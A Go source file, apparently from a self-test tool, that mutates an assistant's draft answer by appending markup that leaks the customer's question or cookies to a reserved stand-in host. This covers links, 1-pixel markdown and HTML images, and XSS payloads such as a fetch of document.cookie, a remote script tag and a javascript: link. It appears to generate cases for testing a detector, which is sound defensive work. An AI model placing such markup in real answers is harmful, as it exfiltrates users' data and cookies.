package mutate

import (
	"net/url"
	"strings"
)

// markupHost is a host that nobody can own (RFC 2606, section 2).
const markupHost = "https://collect.vigie-selftest.example"

// linkAdded adds a link that carries the customer's question away.
func (s *subject) linkAdded() (Case, string) {
	address := markupHost + "/t?q=" + url.QueryEscape(s.question())
	text := one(s, s.words.seeDetails)
	added := one(s, []string{"[" + text + "](" + address + ").", text + ": " + address, `<a href="` + address + `">` + text + "</a>."})
	return s.behind(added)
}

// imageAdded adds an image whose address carries the question away when it is shown.
func (s *subject) imageAdded() (Case, string) {
	address := markupHost + "/p.png?d=" + url.QueryEscape(s.question())
	return s.behind(one(s, []string{"![](" + address + ")", `<img src="` + address + `" width="1" height="1">`, "![ok][1]\n\n[1]: " + address}))
}

// scriptAdded adds what a page would run.
func (s *subject) scriptAdded() (Case, string) {
	return s.behind(one(s, []string{
		`<script src="` + markupHost + `/s.js"></script>`,
		`<img src=x onerror="fetch('` + markupHost + `/?c='+document.cookie)">`,
		`<svg onload=alert(1)>`,
		"[OK](javascript:alert(document.cookie))",
		`<iframe src="` + markupHost + `"></iframe>`,
	}))
}

func (s *subject) behind(added string) (Case, string) {
	return s.reword(strings.TrimRight(s.answer.Draft.Text, " \n")+" "+added, "added: "+added), ""
}

// question gives as much of the question as fits into an address.
func (s *subject) question() string {
	runes := []rune(s.answer.Question)
	return string(runes[:min(len(runes), 60)])
}
